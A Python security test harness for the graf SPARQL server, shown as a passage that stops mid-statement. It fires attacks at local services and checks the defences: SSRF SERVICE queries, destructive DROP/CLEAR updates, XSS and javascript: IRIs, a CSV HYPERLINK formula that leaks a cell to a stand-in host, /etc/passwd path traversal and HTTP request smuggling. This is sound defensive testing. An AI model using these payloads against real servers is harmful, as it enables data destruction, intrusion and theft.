"""Attack table for graf (issue 13): every attack class the issue lists, and the classes the
first independent attack found solid, run against a local `graf serve`, a local Oxigraph behind a
misbehaving proxy, and `graf build` on invented folders. Prints attack / expected / observed /
verdict, then the 50-client load figures; with --write, puts both into bench/RESULTS.md.

    python bench/faults.py [--only serve,load,push,build,input] [--clients 50 --seconds 20]
                           [--kill-points 14] [--write]

Only loopback traffic and temporary folders; every loop is bounded in count and time. Exit 1
when any verdict is FAIL.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))
sys.path.insert(0, str(ROOT / "bench"))

from rdflib import Literal, URIRef  # noqa: E402
from test_publish import BASE, sample_graph  # noqa: E402

BIN = Path(sys.executable).parent
GRAF = [str(BIN / "graf")] if (BIN / "graf").exists() else [sys.executable, "-m", "graf.cli"]
OXIGRAPH = next((str(p) for p in (BIN / "oxigraph",) if p.exists()), None) or shutil.which("oxigraph")
GRAF_NS = "https://w3id.org/graf/ns#"
TEXT_KB = 100  # each invented paper text in the served graph
TEXTS = 40  # 40 x 100 kB: a cross join of texts would answer ~800 MB unbounded
ANSWER_CAP = 16 * 2**20  # GRAF_SERVE_MAX_ANSWER_MB's default


@dataclass
class Row:
    section: str
    attack: str
    expected: str
    observed: str
    ok: bool

    @property
    def verdict(self) -> str:
        return "ok" if self.ok else "FAIL"


ROWS: list[Row] = []


def record(section: str, attack: str, expected: str, observed: str, ok: bool) -> None:
    row = Row(section, attack, expected, observed, bool(ok))
    ROWS.append(row)
    print(f"{row.section:6} | {row.attack[:58]:58} | {row.expected[:30]:30} | {row.observed[:70]:70} | {row.verdict}",
          flush=True)


def attempt(section: str, attack: str, expected: str, fn: Callable[[], tuple[str, bool]]) -> None:
    """One attack; an exception in the harness is a FAIL row naming it, never a crash."""
    try:
        observed, ok = fn()
    except Exception as exc:  # the table must carry every attack, a harness error included
        observed, ok = f"harness error {type(exc).__name__}: {exc}", False
    record(section, attack, expected, observed, ok)


# ----------------------------------------------------------------------------- helpers


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def http(url: str, accept: str | None = None, data: bytes | None = None, ctype: str | None = None,
         timeout: float = 60, method: str | None = None) -> tuple[int, dict[str, str], bytes]:
    headers = {}
    if accept:
        headers["Accept"] = accept
    if ctype:
        headers["Content-Type"] = ctype
    req = urllib.request.Request(url, data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, {k.lower(): v for k, v in r.headers.items()}, r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, {k.lower(): v for k, v in exc.headers.items()}, exc.read()


def raw(port: int, data: bytes, wait: float = 15) -> bytes:
    """Bytes the server sends back on one connection until it closes it (or ``wait`` passes)."""
    with socket.create_connection(("127.0.0.1", port), timeout=wait) as s:
        s.sendall(data)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except (TimeoutError, ConnectionResetError):
            pass
    return out


def graf(*args: str, timeout: float = 600, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*GRAF, *args], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})


def tree_rss_mb(pid: int) -> float:
    """Resident memory of a process and its children (the query workers), in MB."""
    import psutil

    try:
        proc = psutil.Process(pid)
        procs = [proc, *proc.children(recursive=True)]
    except psutil.Error:
        return 0.0
    total = 0
    for p in procs:
        try:
            total += p.memory_info().rss
        except psutil.Error:
            pass
    return total / 2**20


class Served:
    """`graf serve` in its own process on invented data (the sample graph, long paper texts and
    hostile values), so its memory can be read from outside."""

    def __init__(self, folder: Path, timeout: float = 5, workers: int = 2, env: dict[str, str] | None = None):
        g = sample_graph()
        text = URIRef(GRAF_NS + "text")
        for i in range(TEXTS):
            words = " ".join(f"ord{(i * 7919 + k) % 1000}" for k in range(TEXT_KB * 1024 // 8))
            g.add((URIRef(f"{BASE}dokument/lang{i}"), text, Literal(words[:TEXT_KB * 1024])))
        evil = URIRef(BASE + "x/evil")
        see = URIRef("http://www.w3.org/2000/01/rdf-schema#seeAlso")
        label = URIRef("http://www.w3.org/2000/01/rdf-schema#label")
        for iri in ("javascript:alert(1)", "JaVaScRiPt:alert(2)", "data:text/html,%3Cscript%3Ealert(3)%3C/script%3E",
                    "vbscript:msgbox(4)"):
            g.add((evil, see, URIRef(iri)))
        g.add((evil, label, Literal("<script>alert('xss')</script><img src=x onerror=alert(5)>")))
        g.add((evil, URIRef(GRAF_NS + "titel"), Literal("=HYPERLINK(\"http://example.invalid/?\"&A1,\"klicka\")")))
        self.data = folder / "served.ttl"
        g.serialize(destination=str(self.data), format="turtle")
        self.triples = len(g)
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.proc = subprocess.Popen(
            [*GRAF, "serve", "--data", str(self.data), "--base", BASE, "--port", str(self.port),
             "--timeout", str(timeout),
             "--max-rows", "1000", "--workers", str(workers), "-q"],
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env={**os.environ, **(env or {})})
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:
            try:
                if http(self.url + "/", timeout=5)[0] == 200:
                    break
            except OSError:
                if self.proc.poll() is not None:
                    raise RuntimeError("graf serve exited: " + self.proc.stderr.read().decode()[-500:]) from None
                time.sleep(0.3)
        else:
            raise RuntimeError("graf serve did not start")

    def q(self, text: str, **extra: str) -> str:
        return self.url + "/sparql?" + urllib.parse.urlencode({"query": text, **extra})

    def alive(self) -> bool:
        return self.proc.poll() is None and http(self.q("ASK { ?s ?p ?o }"), "application/json", timeout=30)[0] == 200

    def rss_mb(self) -> float:
        return tree_rss_mb(self.proc.pid)

    def close(self) -> None:
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(10)


class Listener:
    """A loopback socket that records whether anyone connected (SSRF / port-scan witness)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


# ----------------------------------------------------------------------------- serve


SERVICE_FORMS = [
    "SELECT * WHERE {{ ?a ?b ?c .SERVICE <{u}> {{ ?c ?d ?e }} }}",
    "PREFIX p: <http://x.invalid/> SELECT * WHERE {{ ?a p:a\\#b ?c SERVICE <{u}> {{ ?c ?d ?e }} }}",
    "SELECT * WHERE {{ FILTER EXISTS {{ SERVICE SILENT <{u}> {{ ?a ?b ?c }} }} }}",
    "SELECT * WHERE {{ {{ SELECT * WHERE {{ sErViCe <{u}> {{ ?a ?b ?c }} }} }} }}",
    "SELECT * WHERE {{ \\u0053ERVICE <{u}> {{ ?a ?b ?c }} }}",
    "SELECT * WHERE {{ OPTIONAL {{ SERVICE<{u}>{{?a ?b ?c}} }} }}",
    "SELECT * WHERE {{ {{ ?a ?b ?c }} UNION {{ SERVICE <{u}> {{ ?a ?b ?c }} }} }}",
    "SELECT * WHERE {{ ?a ?b ?c MINUS {{ SERVICE <{u}> {{ ?a ?b ?c }} }} }}",
    "SELECT * WHERE {{ GRAPH ?g {{ SERVICE <{u}> {{ ?a ?b ?c }} }} }}",
    "SELECT * WHERE {{ # comment\nSERVICE # more\n<{u}> {{ ?a ?b ?c }} }}",
    "BASE <{u}> SELECT * WHERE {{ SERVICE <sparql> {{ ?a ?b ?c }} }}",
    "PREFIX e: <{u}> SELECT * WHERE {{ SERVICE e:sparql {{ ?a ?b ?c }} }}",
    "SELECT * WHERE {{ BIND(<{u}> AS ?u) SERVICE ?u {{ ?a ?b ?c }} }}",
    "ASK {{ SERVICE <{u}> {{ ?a ?b ?c }} }}",
    "CONSTRUCT {{ ?a ?b ?c }} WHERE {{ SERVICE <{u}> {{ ?a ?b ?c }} }}",
    "DESCRIBE ?a WHERE {{ SERVICE <{u}> {{ ?a ?b ?c }} }}",
    "SELECT * WHERE {{ ?a ?b ?c #\rSERVICE <{u}> {{ ?a ?b ?c }} }}",  # a CR ends a comment
]

UPDATE_FORMS = [
    ("GET query=INSERT DATA", "query", "INSERT DATA { <http://x.invalid/s> <http://x.invalid/p> 'o' }"),
    ("GET query=DELETE WHERE", "query", "DELETE WHERE { ?s ?p ?o }"),
    ("GET query=LOAD", "query", "LOAD <http://127.0.0.1:9/x.ttl>"),
    ("GET query=CLEAR ALL", "query", "CLEAR ALL"),
    ("GET query=DROP DEFAULT", "query", "DROP DEFAULT"),
    ("GET query=CREATE GRAPH", "query", "CREATE GRAPH <http://x.invalid/g>"),
    ("GET query=COPY", "query", "COPY DEFAULT TO <http://x.invalid/g>"),
    ("GET query=MOVE", "query", "MOVE DEFAULT TO <http://x.invalid/g>"),
    ("GET query=ADD", "query", "ADD DEFAULT TO <http://x.invalid/g>"),
    ("GET query=WITH … DELETE", "query", "WITH <http://x.invalid/g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }"),
    ("GET query=PREFIX … ; INSERT", "query", "PREFIX e: <http://x.invalid/> ASK {} ; INSERT DATA { e:s e:p e:o }"),
    ("GET update=CLEAR ALL", "update", "CLEAR ALL"),
    ("POST sparql-update", "post-update", "DROP ALL"),
    ("POST form update=", "post-form-update", "DELETE WHERE { ?s ?p ?o }"),
    ("POST form query=LOAD", "post-form-query", "LOAD <http://127.0.0.1:9/x.ttl> INTO GRAPH <http://x.invalid/g>"),
    ("POST /update", "path-update", "CLEAR ALL"),
    ("lowercase 'clear all'", "query", "clear all"),
    ("comment before DROP", "query", "# hello\nDROP ALL"),
]


def serve_attacks(srv: Served) -> None:
    s = "serve"
    witness = Listener()
    try:
        target = f"http://127.0.0.1:{witness.port}/sparql"
        for form in SERVICE_FORMS:
            text = form.format(u=target)

            def service(text: str = text) -> tuple[str, bool]:
                status, _, body = http(srv.q(text), "application/json", timeout=30)
                return f"{status}", status == 403 and b"SERVICE" in body
            attempt(s, "SERVICE: " + " ".join(text.split())[:50], "403", service)

        def service_post() -> tuple[str, bool]:
            status, _, _ = http(srv.url + "/sparql", data=f"ASK {{ SERVICE <{target}> {{ ?a ?b ?c }} }}".encode(),
                                ctype="application/sparql-query")
            return str(status), status == 403
        attempt(s, "SERVICE in a POSTed query", "403", service_post)
        time.sleep(0.5)
        attempt(s, "SSRF witness: connections reaching a loopback port", "0 connections",
                lambda: (f"{witness.connections} connections", witness.connections == 0))
    finally:
        witness.close()

    size = http(srv.q("SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"), "text/csv")[2]
    for name, kind, text in UPDATE_FORMS:
        def update(kind: str = kind, text: str = text) -> tuple[str, bool]:
            if kind == "query":
                status = http(srv.q(text))[0]
            elif kind == "update":
                status = http(srv.url + "/sparql?" + urllib.parse.urlencode({"update": text}))[0]
            elif kind == "post-update":
                status = http(srv.url + "/sparql", data=text.encode(), ctype="application/sparql-update")[0]
            elif kind == "post-form-update":
                status = http(srv.url + "/sparql", data=urllib.parse.urlencode({"update": text}).encode(),
                              ctype="application/x-www-form-urlencoded")[0]
            elif kind == "post-form-query":
                status = http(srv.url + "/sparql", data=urllib.parse.urlencode({"query": text}).encode(),
                              ctype="application/x-www-form-urlencoded")[0]
            else:
                status = http(srv.url + "/update", data=text.encode(), ctype="application/sparql-update")[0]
            after = http(srv.q("SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"), "text/csv")[2]
            return f"{status}, store {'unchanged' if after == size else 'CHANGED'}", 400 <= status < 500 and after == size
        attempt(s, "update: " + name, "4xx, store unchanged", update)

    # -- bounded answers, memory, deadline
    rss_before = srv.rss_mb()
    everything = "SELECT ?s ?p ?o WHERE { ?s ?p ?o }"
    cross = f"SELECT ?t ?u WHERE {{ ?a <{GRAF_NS}text> ?t . ?b <{GRAF_NS}text> ?u }}"
    concat = (f"SELECT (CONCAT(?t, ?u, ?t, ?u, ?t, ?u, ?t, ?u) AS ?x) WHERE {{ ?a <{GRAF_NS}text> ?t . "
              f"?b <{GRAF_NS}text> ?u }}")
    group = f"SELECT (GROUP_CONCAT(CONCAT(?t, ?u)) AS ?x) WHERE {{ ?a <{GRAF_NS}text> ?t . ?b <{GRAF_NS}text> ?u }}"
    for name, text, accept in (("SELECT * every triple (CSV)", everything, "text/csv"),
                               ("cross join of paper texts (JSON, ~800 MB unbounded)", cross, "application/json"),
                               ("cross join of texts (XML)", cross, "application/sparql-results+xml"),
                               ("cross join of texts (HTML)", cross, "text/html"),
                               ("CONCAT x8 over a cross join", concat, "application/json"),
                               ("GROUP_CONCAT over a cross join", group, "text/csv")):
        def bounded(text: str = text, accept: str = accept) -> tuple[str, bool]:
            started = time.monotonic()
            status, headers, body = http(srv.q(text), accept, timeout=120)
            took = time.monotonic() - started
            flags = ",".join(f"{k}={v}" for k, v in headers.items()
                             if k in ("x-graf-truncated", "x-graf-values-cut", "x-sparql-maxrows"))
            # the answer cap (GRAF_SERVE_MAX_ANSWER_MB, 16 MB by default) plus one row's overshoot
            ok = len(body) < ANSWER_CAP + 2**20 and took < 30 and status in (200, 503, 504)
            return f"{status} {len(body) // 1024} kB {took:.1f} s {flags[:30]}", ok
        attempt(s, "huge answer: " + name, "≤ 16 MB or 503, < 30 s", bounded)
    rss_after = srv.rss_mb()
    attempt(s, "server + workers memory after the huge answers", "< 1,500 MB",
            lambda: (f"{rss_before:.0f} -> {rss_after:.0f} MB", rss_after < 1500))

    # -- HTML: javascript: IRIs, XSS, CSP
    def no_live_scripts() -> tuple[str, bool]:
        _, headers, page = http(srv.url + "/x/evil", "text/html")
        _, _, table = http(srv.q(f"SELECT ?o WHERE {{ <{BASE}x/evil> ?p ?o }}"), "text/html")
        bad = [h for h in (page, table) for m in (b'href="javascript:', b"href='javascript:", b'href="data:',
                                                  b'href="vbscript:') if m in h.lower()]
        scripts = page.count(b"<script") + table.count(b"<script")
        return f"{len(bad)} live script links, {scripts} <script> tags", not bad and scripts == 0
    attempt(s, "javascript:/data:/vbscript: IRIs and <script> literal in HTML", "text, not links", no_live_scripts)
    for path in ("/", "/x/evil", "/person/anna-berg", "/no/such/thing", "/sparql?query=nonsense"):
        def csp(path: str = path) -> tuple[str, bool]:
            status, headers, _ = http(srv.url + path, "text/html")
            policy = headers.get("content-security-policy", "")
            ok = "default-src 'none'" in policy and "script-src" not in policy \
                and headers.get("x-content-type-options") == "nosniff"
            return f"{status}, CSP {'present' if policy else 'missing'}", ok
        attempt(s, f"CSP + nosniff on {path}", "present, no scripts", csp)

    def csv_safe() -> tuple[str, bool]:
        _, _, body = http(srv.q(f"SELECT ?t WHERE {{ <{BASE}x/evil> <{GRAF_NS}titel> ?t }}"), "text/csv")
        line = body.splitlines()[1] if len(body.splitlines()) > 1 else b""
        return line[:30].decode(errors="replace"), line.startswith(b"\"'=") or line.startswith(b"'=")
    attempt(s, "formula cell in a CSV answer", "prefixed with '", csv_safe)

    # -- path traversal
    for path in ("/../../../../etc/passwd", "/dump/..%2f..%2f..%2fetc%2fpasswd", "/dump/%2e%2e/%2e%2e/etc/passwd",
                 "/query/..%2f..%2fetc%2fpasswd", "/static/../../etc/passwd", "//etc/passwd",
                 "/dump/....//....//etc/passwd", "/feed/organ/..%2f..%2f..%2fetc%2fpasswd"):
        def traversal(path: str = path) -> tuple[str, bool]:
            try:
                req = f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
                out = raw(srv.port, req)
            except OSError as exc:
                return f"error {exc}", False
            status = out.split(b" ", 2)[1].decode() if out.startswith(b"HTTP/") else "?"
            # a feed of a committee that does not exist is an empty feed naming the IRI asked for
            return f"{status}", b"root:" not in out and (status.startswith("4") or status == "200" and b"<entry" not in out)
        attempt(s, f"path traversal {path}", "no file (4xx or empty feed)", traversal)

    # -- bad headers and framing
    header_cases = [
        ("100 kB header", b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n"),
        ("header line without colon", b"GET / HTTP/1.1\r\nHost: x\r\nnonsense\r\n\r\n"),
        ("Content-Length: -1", b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n"),
        ("Content-Length: abc", b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n"),
        ("two Content-Lengths", b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nASK{}"),
        ("CL + TE: chunked (CL.TE smuggling)",
         b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\nContent-Length: 6\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("bad chunk size", b"POST /sparql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nASK{}\r\n0\r\n\r\n"),
        ("NUL in request line", b"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("non-ASCII header value", "GET / HTTP/1.1\r\nHost: x\r\nX-Å: ö\xff\r\n\r\n".encode("latin-1")),
        ("HTTP/0.9 request", b"GET /\r\n\r\n"),
        ("no Host (HTTP/1.1)", b"GET / HTTP/1.1\r\n\r\n"),
        ("Accept: */*;q=abc", b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\nAccept: */*;q=abc,text/html;;\r\n\r\n"),
    ]
    for name, data in header_cases:
        def bad_header(data: bytes = data) -> tuple[str, bool]:
            out = raw(srv.port, data, wait=15)
            responses = out.count(b"HTTP/1.1 ")
            first = out.split(b"\r\n", 1)[0].decode(errors="replace")
            alive = srv.alive()
            ok = alive and responses <= 1 and b"Traceback" not in out and not first.startswith("HTTP/1.1 5")
            return f"{first[:30] or 'closed'}; {responses} resp; alive={alive}", ok
        attempt(s, f"bad header: {name}", "≤1 answer (4xx/200), alive", bad_header)

    def smuggle_413() -> tuple[str, bool]:
        hidden = b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n\r\n"
        head = (b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
                b"Content-Length: 2000000\r\n\r\n")
        out = raw(srv.port, head + hidden)
        return f"{out[:12].decode(errors='replace')}…, {out.count(b'HTTP/1.1 ')} response(s)", \
            out.startswith(b"HTTP/1.1 413") and out.count(b"HTTP/1.1 ") == 1
    attempt(s, "request smuggled inside a 413 body (keep-alive)", "one 413, connection closed", smuggle_413)

    def big_chunked() -> tuple[str, bool]:
        with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as sock:
            sock.sendall(b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
                         b"Transfer-Encoding: chunked\r\n\r\n")
            chunk = b"#" * 65536
            sent = 0
            try:
                while sent < 4_000_000:
                    sock.sendall(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
                    sent += len(chunk)
            except OSError:
                pass
            out = b""
            try:
                while data := sock.recv(65536):
                    out += data
            except OSError:
                pass
        return out[:12].decode(errors="replace"), out.startswith(b"HTTP/1.1 413")
    attempt(s, "4 MB chunked body without a length", "413", big_chunked)

    def idle() -> tuple[str, bool]:
        started = time.monotonic()
        with socket.create_connection(("127.0.0.1", srv.port), timeout=60) as sock:
            closed = sock.recv(1) == b""
        took = time.monotonic() - started
        with socket.create_connection(("127.0.0.1", srv.port), timeout=60) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")  # never finished
            half = sock.recv(1) == b""
        return f"idle closed={closed} after {took:.1f} s; half-sent closed={half}", closed and half and took < 30
    attempt(s, "idle and half-sent connections", "closed by the server", idle)

    def many_idle() -> tuple[str, bool]:
        socks = []
        try:
            for _ in range(1100):
                try:
                    socks.append(socket.create_connection(("127.0.0.1", srv.port), timeout=5))
                except OSError:
                    break
            started = time.monotonic()
            status = http(srv.url + "/person/anna-berg", "text/html", timeout=30)[0]
            took = time.monotonic() - started
        finally:
            for sock in socks:
                sock.close()
        return f"{len(socks)} idle sockets open; a page: {status} in {took * 1000:.0f} ms", status == 200 and took < 5
    attempt(s, "1,100 idle sockets, then a normal request", "200", many_idle)

    # -- slow lane and dumps
    runaway = ("SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o . "
               "?p ?q ?r . ?s ?t ?u }")
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            try:
                http(srv.q(runaway), timeout=60)
            except OSError:
                pass

    attackers = [threading.Thread(target=loop, daemon=True) for _ in range(2)]
    for a in attackers:
        a.start()
    try:
        time.sleep(1.0)

        def cheap_requests() -> tuple[str, bool]:
            urls = [srv.url + "/person/anna-berg", srv.q("ASK { ?s ?p ?o }"), srv.url + "/",
                    srv.q("SELECT ?n WHERE { ?p <http://xmlns.com/foaf/0.1/name> ?n }")]
            statuses = []
            slowest = 0.0
            for i in range(47):
                started = time.monotonic()
                statuses.append(http(urls[i % len(urls)], "*/*", timeout=60)[0])
                slowest = max(slowest, time.monotonic() - started)
            failed = sum(1 for st in statuses if st != 200)
            return f"{47 - failed}/47 ok, slowest {slowest:.1f} s", failed == 0
        attempt(s, "2 looping runaway queries + 47 normal requests", "47/47 200", cheap_requests)

        def dump() -> tuple[str, bool]:
            started = time.monotonic()
            status, _, body = http(srv.url + "/dump/graf.nq", timeout=180)
            took = time.monotonic() - started
            return f"{status}, {len(body) // 1024} kB in {took:.1f} s", status == 200 and took < 10 and len(body) > 0
        attempt(s, "first dump request while runaways loop", "200, streamed, < 10 s", dump)
    finally:
        stop.set()
        for a in attackers:
            a.join(90)
    attempt(s, "server alive after the serve attacks", "answers", lambda: (str(srv.alive()), srv.alive()))


# ----------------------------------------------------------------------------- load


def load(srv: Served, clients: int, seconds: float) -> dict[str, float]:
    urls = [srv.url + "/person/anna-berg", srv.q("ASK { ?s ?p ?o }"),
            srv.q("SELECT ?n WHERE { ?p <http://xmlns.com/foaf/0.1/name> ?n }")]
    times: list[float] = []
    errors = [0]
    stop = time.monotonic() + seconds
    lock = threading.Lock()

    def client(i: int) -> None:
        n = 0
        while time.monotonic() < stop:
            url = urls[(i + n) % len(urls)]
            n += 1
            t = time.monotonic()
            try:
                status = http(url, "*/*", timeout=30)[0]
            except OSError:
                status = 0
            with lock:
                times.append(time.monotonic() - t)
                if status != 200:
                    errors[0] += 1

    threads = [threading.Thread(target=client, args=(i,)) for i in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    times.sort()
    overflows = listen_overflows()
    return {"requests": len(times), "rps": len(times) / seconds, "errors": errors[0],
            "p50_ms": 1000 * statistics.median(times), "p95_ms": 1000 * times[int(0.95 * (len(times) - 1))],
            "overflows": overflows}


def listen_overflows() -> float:
    """The kernel's ListenOverflows counter (whole network namespace), -1 when unreadable."""
    try:
        lines = Path("/proc/net/netstat").read_text().splitlines()
    except OSError:
        return -1
    for head, values in zip(lines[::2], lines[1::2]):
        if head.startswith("TcpExt:"):
            names, nums = head.split()[1:], values.split()[1:]
            return float(dict(zip(names, nums)).get("ListenOverflows", -1))
    return -1


# ----------------------------------------------------------------------------- push


def invented_papers(folder: Path) -> dict[str, Path]:
    """The repository's invented examples built to N-Quads; the same with the minutes corrected;
    one paper alone."""
    first, second = folder / "first", folder / "second"
    shutil.copytree(ROOT / "examples", first)
    shutil.copytree(ROOT / "examples", second)
    minutes = next(second.glob("protokoll-*"))
    minutes.write_text(minutes.read_text(encoding="utf-8").replace("Remiss", "Rättad remiss", 1), encoding="utf-8")
    out = {}
    for name, src in (("first", first), ("second", second), ("one", next(first.glob("dagordning-*")))):
        out[name] = folder / f"{name}.nq"
        r = graf("build", str(src), "--out", str(out[name]), "-q")
        if r.returncode != 0:
            raise RuntimeError(r.stderr)
    return out


class Oxigraph:
    def __init__(self, folder: Path) -> None:
        if OXIGRAPH is None:
            raise RuntimeError("no oxigraph binary")
        self.location = folder / f"ox{free_port()}"
        self.start()

    def start(self) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.proc = subprocess.Popen([OXIGRAPH, "serve", "--location", str(self.location),
                                      "--bind", f"127.0.0.1:{self.port}"],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(200):
            try:
                urllib.request.urlopen(self.url + "/query?query=ASK%7B%7D", timeout=1).read()
                return
            except OSError:
                time.sleep(0.05)
        raise RuntimeError("oxigraph did not start")

    def kill(self) -> None:
        self.proc.kill()
        self.proc.wait(10)

    def graphs(self) -> dict[str, int]:
        from graf.remote import query_endpoint

        _, rows = query_endpoint(self.url + "/query",
                                 "SELECT ?g (COUNT(*) AS ?n) WHERE { GRAPH ?g { ?s ?p ?o } } GROUP BY ?g")
        return {str(g): int(n) for g, n in rows}

    def default_size(self) -> int:
        from graf.remote import query_endpoint

        _, rows = query_endpoint(self.url + "/query", "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }")
        return int(rows[0][0])

    def state(self) -> tuple[int, tuple[tuple[str, int], ...]]:
        return self.default_size(), tuple(sorted(self.graphs().items()))


def push_attacks(tmp: Path) -> None:
    from test_push_faults import Proxy

    s = "push"
    papers = invented_papers(tmp / "papers")

    def fresh(seed: str = "first") -> Oxigraph:
        ox = Oxigraph(tmp)
        r = graf("push", "--data", str(papers[seed]), "--endpoint", ox.url + "/update", "-q")
        if r.returncode != 0:
            raise RuntimeError(r.stderr)
        return ox

    def refused_413() -> tuple[str, bool]:
        ox = fresh()
        before = ox.state()

        def limit(method: str, path: str, headers: dict, body: bytes):
            return (413, {"Content-Type": "text/plain"}, b"Request Entity Too Large: over 300 bytes") \
                if len(body) > 300 else None
        proxy = Proxy(ox.url, limit)
        try:
            r = graf("push", "--data", str(papers["second"]), "--endpoint", proxy.url + "/update")
        finally:
            proxy.close()
        after = ox.state()
        ox.kill()
        said = "413" in r.stderr and "as before" in r.stderr
        return f"exit {r.returncode}, store {'unchanged' if after == before else 'CHANGED'}, message says so={said}", \
            r.returncode != 0 and after == before and said
    attempt(s, "proxy 413 on every body > 300 bytes", "exit≠0, store as before, says so", refused_413)

    def redirect() -> tuple[str, bool]:
        ox = Oxigraph(tmp)

        def login(method: str, path: str, headers: dict, body: bytes):
            if path.startswith("/login"):
                return 200, {"Content-Type": "text/html"}, b"<html>Please log in</html>"
            return 302, {"Location": "/login"}, b""
        proxy = Proxy(ox.url, login)
        try:
            r = graf("push", "--data", str(papers["first"]), "--endpoint", proxy.url + "/update")
        finally:
            proxy.close()
        size = ox.default_size()
        ox.kill()
        return f"exit {r.returncode}, {size} triples written", r.returncode != 0 and "redirect" in r.stderr and size == 0
    attempt(s, "redirect to a login page", "failure, exit≠0", redirect)

    def dies_mid_push() -> tuple[str, bool]:
        ox = fresh()
        before = ox.state()
        seen: list[str] = []

        def dies(method: str, path: str, headers: dict, body: bytes):
            seen.append(path)
            return "drop" if method != "GET" and len(seen) > 3 else None
        proxy = Proxy(ox.url, dies)
        try:
            r = graf("push", "--data", str(papers["second"]), "--endpoint", proxy.url + "/update", "--method", "update")
        finally:
            proxy.close()
        after = ox.state()
        ox.kill()
        says = "stopped after" in r.stderr and "as before" in r.stderr
        return f"exit {r.returncode}, store {'unchanged' if after == before else 'CHANGED'}, message says so={says}", \
            r.returncode != 0 and after == before and says
    attempt(s, "store connection dropped mid-push (update mode)", "exit≠0, what holds said", dies_mid_push)

    clean = Oxigraph(tmp)
    graf("push", "--data", str(papers["second"]), "--endpoint", clean.url + "/update", "-q")
    want = clean.state()
    want_papers = {g: n for g, n in clean.graphs().items() if "/graph/paper/" in g}
    clean.kill()

    def kill9_mid_push(point: int) -> tuple[str, bool]:
        """A real kill -9 of the store as the push's ``point``-th request reaches it (the proxy
        kills it, then drops the request): afterwards every paper graph is as before or as new,
        the push says it failed, and the next push completes it."""
        ox = fresh()
        before = {g: n for g, n in ox.graphs().items() if "/graph/paper/" in g}
        seen = [0]

        def killer(method: str, path: str, headers: dict, body: bytes):
            seen[0] += 1
            if seen[0] == point:
                ox.kill()
            return "drop" if seen[0] >= point else None  # the store is gone: so are its answers
        proxy = Proxy(ox.url, killer)
        try:
            r = graf("push", "--data", str(papers["second"]), "--endpoint", proxy.url + "/update", "--method", "update")
        finally:
            proxy.close()
        if seen[0] < point:
            ox.kill()
            return f"push done in {seen[0]} requests, before the kill point", r.returncode == 0
        ox.start()
        middle = {g: n for g, n in ox.graphs().items() if "/graph/paper/" in g}
        whole = all(middle.get(g) in (before.get(g), want_papers.get(g)) for g in set(middle) | set(before))
        again = graf("push", "--data", str(papers["second"]), "--endpoint", ox.url + "/update", "-q")
        final = ox.state()
        ox.kill()
        said = any(m in r.stderr for m in ("as before", "stopped after", "nothing at the store was changed"))
        ok = r.returncode != 0 and said and whole and again.returncode == 0 and final == want
        return (f"exit {r.returncode}, says what holds={said}; graphs whole={whole}; "
                f"re-push equal={final == want}"), ok
    for point in (1, 2, 3, 4, 5):  # a push of the two papers makes five requests
        attempt(s, f"kill -9 the store at the push's request {point}, restart, push again",
